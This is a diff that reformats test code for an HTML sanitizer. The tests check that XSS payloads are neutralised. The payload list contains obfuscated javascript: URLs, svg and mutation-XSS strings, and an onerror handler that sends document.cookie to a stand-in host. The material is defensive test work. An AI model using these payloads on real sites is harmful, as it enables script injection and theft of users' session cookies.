@@ -22,8 +22,27 @@ const attr = (report: SanitizedReport, tag: string, name: string, index = 0): st
 };
 const tags = (report: SanitizedReport, tag: string) => report.elements.filter((e) => e.tag === tag);
 
-const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
-const FORBIDDEN = ['script', 'style', 'iframe', 'object', 'embed', 'form', 'svg', 'math', 'link', 'meta', 'base', 'template', 'input', 'button', 'source', 'video', 'details'];
+const PNG =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+const FORBIDDEN = [
+  'script',
+  'style',
+  'iframe',
+  'object',
+  'embed',
+  'form',
+  'svg',
+  'math',
+  'link',
+  'meta',
+  'base',
+  'template',
+  'input',
+  'button',
+  'source',
+  'video',
+  'details',
+];
 
 /** Nothing executable may survive: no handler attributes, no script-capable elements, no script URLs. */
 function expectInert(report: SanitizedReport) {
@@ -48,7 +67,10 @@ describe('sanitizeHtml: XSS payloads', () => {
     ['javascript: with leading spaces', '<a href="   javascript:alert(1)">x</a>'],
     ['javascript: with a tab inside', '<a href="java\tscript:alert(1)">x</a>'],
     ['javascript: with a newline inside', '<a href="java\nscript:alert(1)">x</a>'],
-    ['javascript: as decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
+    [
+      'javascript: as decimal entities',
+      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    ],
     ['javascript: as hex entities', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
     ['javascript: in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
     ['javascript: after a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
@@ -56,14 +78,20 @@ describe('sanitizeHtml: XSS payloads', () => {
     ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
     ['svg onload', '<svg onload=alert(1)><circle r="4"/></svg>'],
     ['script inside svg', '<svg><script>alert(1)</script></svg>'],
-    ['math namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
+    [
+      'math namespace confusion',
+      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    ],
     ['style element', '<style>body{display:none}</style><p>text</p>'],
     ['style attribute', '<p style="position:fixed;inset:0;background:red">cover</p>'],
     ['iframe', '<iframe src="https://evil.example/"></iframe>'],
     ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
     ['object', '<object data="https://evil.example/x.swf"></object>'],
     ['embed', '<embed src="https://evil.example/x.swf">'],
-    ['form with formaction', '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button><input autofocus onfocus=alert(1)></form>'],
+    [
+      'form with formaction',
+      '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button><input autofocus onfocus=alert(1)></form>',
+    ],
     ['nested script split', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
     ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
     ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
@@ -77,7 +105,10 @@ describe('sanitizeHtml: XSS payloads', () => {
     ['data: html image', '<img src="data:text/html,<script>alert(1)</script>">'],
     ['event handler in uppercase', '<IMG SRC="/a.png" ONERROR="alert(1)">'],
     ['handler without quotes after slash', '<img/src="/a.png"/onerror=alert(1)>'],
-    ['seeded course markup', '<p><img src="/images/x.svg" alt="x" onerror="this.src=\'https://t.example/p.gif?c=\'+document.cookie"></p><a href="javascript:alert(\'x\')">领取</a><script>window._hmt=1</script>'],
+    [
+      'seeded course markup',
+      '<p><img src="/images/x.svg" alt="x" onerror="this.src=\'https://t.example/p.gif?c=\'+document.cookie"></p><a href="javascript:alert(\'x\')">领取</a><script>window._hmt=1</script>',
+    ],
   ];
 
   for (const [name, html] of payloads) {
@@ -93,7 +124,15 @@ describe('sanitizeHtml: XSS payloads', () => {
   });
 
   it('removes images whose source is not http(s), same-origin or an inline raster image', async () => {
-    for (const src of ['x', '//evil.example/x.png', '/\\evil.example/x.png', 'data:image/svg+xml;base64,PHN2Zz4=', 'mailto:a@b.c', 'ftp://files.example/x.png', 'javascript:alert(1)']) {
+    for (const src of [
+      'x',
+      '//evil.example/x.png',
+      '/\\evil.example/x.png',
+      'data:image/svg+xml;base64,PHN2Zz4=',
+      'mailto:a@b.c',
+      'ftp://files.example/x.png',
+      'javascript:alert(1)',
+    ]) {
       const r = await render(`<p>a<img src="${src}" alt="x">b</p>`);
       expect(tags(r, 'img'), src).toEqual([]);
       expect(r.text).toBe('ab');
@@ -101,8 +140,14 @@ describe('sanitizeHtml: XSS payloads', () => {
   });
 
   it('keeps http(s), same-origin and raster data images, lazily loaded', async () => {
-    const r = await render(`<img src="https://cdn.example/a.png" alt="a"><img src="/images/b.svg" alt="b"><img src="${PNG}" alt="c">`);
-    expect(tags(r, 'img').map((_, i) => attr(r, 'img', 'src', i))).toEqual(['https://cdn.example/a.png', '/images/b.svg', PNG]);
+    const r = await render(
+      `<img src="https://cdn.example/a.png" alt="a"><img src="/images/b.svg" alt="b"><img src="${PNG}" alt="c">`,
+    );
+    expect(tags(r, 'img').map((_, i) => attr(r, 'img', 'src', i))).toEqual([
+      'https://cdn.example/a.png',
+      '/images/b.svg',
+      PNG,
+    ]);
     expect(tags(r, 'img').map((_, i) => attr(r, 'img', 'loading', i))).toEqual(['lazy', 'lazy', 'lazy']);
   });
 
@@ -117,13 +162,23 @@ describe('sanitizeHtml: XSS payloads', () => {
     expect(await href('mailto:hi@example.com')).toBe('mailto:hi@example.com');
     expect(await href('/vip')).toBe('/vip');
     expect(await href('#part-2')).toBe('#part-2');
-    for (const bad of ['//evil.example/', '/\\evil.example/', '/\t/evil.example/', 'file:///etc/passwd', 'tel:10086', 'relative/path', 'data:text/html,x']) {
+    for (const bad of [
+      '//evil.example/',
+      '/\\evil.example/',
+      '/\t/evil.example/',
+      'file:///etc/passwd',
+      'tel:10086',
+      'relative/path',
+      'data:text/html,x',
+    ]) {
       expect(await href(bad), bad).toBeNull();
     }
   });
 
   it('opens external links in a new tab without opener or referrer; same-origin links stay', async () => {
-    const r = await render(`<a href="https://other.example/" target="_self">ext</a><a href="/vip" target="_blank">in</a><a href="${ORIGIN}/courses">abs</a>`);
+    const r = await render(
+      `<a href="https://other.example/" target="_self">ext</a><a href="/vip" target="_blank">in</a><a href="${ORIGIN}/courses">abs</a>`,
+    );
     expect(attr(r, 'a', 'target', 0)).toBe('_blank');
     expect(attr(r, 'a', 'rel', 0)).toBe('noopener noreferrer');
     expect(attr(r, 'a', 'target', 1)).toBeNull();
@@ -132,7 +187,9 @@ describe('sanitizeHtml: XSS payloads', () => {
   });
 
   it('keeps only language classes on code and pre; other classes, ids and data attributes go', async () => {
-    const r = await render('<pre class="x"><code class="language-js hljs evil">let a</code></pre><p class="hidden" id="main" name="x" data-x="1" aria-hidden="true">t</p>');
+    const r = await render(
+      '<pre class="x"><code class="language-js hljs evil">let a</code></pre><p class="hidden" id="main" name="x" data-x="1" aria-hidden="true">t</p>',
+    );
     expect(attr(r, 'code', 'class')).toBe('language-js');
     expect(attr(r, 'pre', 'class')).toBeNull();
     expect(tags(r, 'p')[0].attrs).toEqual([]);
@@ -179,13 +236,17 @@ describe('sanitizeSnippet', () => {
   const snippet = async (input: string) => (await sanitizeIn(page, input, 'snippet')).html;
 
   it('turns the engine highlight spans into bare marks', async () => {
-    expect(await snippet('学习 <span style="color:red">Vue</span> 与 <em>React</em>')).toBe('学习 <mark>Vue</mark> 与 <mark>React</mark>');
+    expect(await snippet('学习 <span style="color:red">Vue</span> 与 <em>React</em>')).toBe(
+      '学习 <mark>Vue</mark> 与 <mark>React</mark>',
+    );
   });
 
   it('keeps nothing but text and highlights', async () => {
-    expect(await snippet('<a href="/x">链接</a><img src=x onerror=alert(1)><b>粗</b><script>alert(1)</script>&lt;escaped&gt;')).toBe(
-      '链接粗&lt;escaped&gt;',
-    );
+    expect(
+      await snippet(
+        '<a href="/x">链接</a><img src=x onerror=alert(1)><b>粗</b><script>alert(1)</script>&lt;escaped&gt;',
+      ),
+    ).toBe('链接粗&lt;escaped&gt;');
   });
 
   it('drops attributes from the highlight markup', async () => {
